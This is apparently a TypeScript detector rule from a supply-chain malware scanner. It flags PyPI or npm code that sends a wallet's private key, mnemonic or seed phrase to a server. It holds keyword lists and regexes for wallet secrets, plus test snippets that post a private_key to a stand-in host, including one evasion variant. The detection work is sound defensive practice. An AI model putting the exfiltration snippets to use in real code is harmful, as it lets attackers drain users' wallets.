import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { codeWith, sight } from "./_sight.ts";

const WORDS = [
  "private_key",
  "privatekey",
  "mnemonic",
  "seed_phrase",
  "seedphrase",
  "secret_key",
  "keypair",
  "wallet_key",
  "passphrase",
] as const;
const NETWORK = ["requests", "urlopen", "httpx", "aiohttp", "fetch(", "axios", "urllib", "http"] as const;
const KEY = /\b(?:private_?keys?|mnemonics?|seed_?phrases?|wallet_?keys?|keypair|secret_?phrase)\b/i;

/** Variables to which a table with a key among its values is given, and the name of the key. */
const TABLE =
  /(?:^|\n)[ \t]{0,40}([A-Za-z_]\w{0,60})[ \t]{0,4}=[ \t]{0,4}\[?[ \t]{0,4}\{[^{}]{0,400}?:\s{0,10}((?:\w{1,30}\.)?(?:\w{1,20}_)?(?:private_?key|mnemonic|seed_?phrase|wallet_?key|secret_?phrase))\s{0,4}[,}]/gi;
const BEFORE = 2_000;

export const sendsWalletKeys: Detector = {
  id: "sends-wallet-keys",
  title: "Sends a wallet's private key or seed phrase to a server",
  severity: "high",
  ecosystems: ["pypi", "npm"],
  points: 5.6,
  class: "threat",
  group: "exfiltration",
  why: `A request carries something called a private key, mnemonic or seed phrase. Whoever has it owns the wallet; no service needs it,
because transactions are signed where the key is.

Clients of custody services that keep keys for their users send them by design.`,
  literals: [...WORDS, ...NETWORK],
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (!KEY.test(file.text)) continue;
      for (const deed of deedsOf(file, "upload")) {
        if (/(?:Bot|Client|Session|SSHClient|FTP|\.from_url)$/.test(deed.what)) continue;
        const key = KEY.exec(deed.words) ?? keyInTable(file, deed);
        if (key !== undefined)
          yield sight(file, deed.offset, `${deed.what} sends ${key[0]} ${deed.text.slice(0, 80)}`.trimEnd(), {
            phase: deed.phase,
            share: 1,
          });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "import requests\ndef make(private_key):\n    requests.post('http://example.invalid', json={'k': private_key})\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "import requests\ndef make(private_key):\n    tx = sign(private_key)\n    requests.post('http://example.invalid', json={'t': tx})\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "import requests\ndef make(private_key):\n    body = [{'k': private_key}]\n    return requests.post('http://example.invalid', json=body)\n",
        },
      },
    ],
  },
};

/** The key in a table that the request carries by the name of a variable set shortly before. */
function keyInTable({ text }: SourceFile, { words, offset }: Deed): readonly [string] | undefined {
  const sent = new Set(words.match(/(?<![\w.'"])[A-Za-z_]\w{0,60}(?![\w'"]|\s{0,2}[=(.])/g) ?? []);
  for (const [, name, key] of text.slice(Math.max(0, offset - BEFORE), offset).matchAll(TABLE))
    if (sent.has(name!)) return [key!];
  return undefined;
}
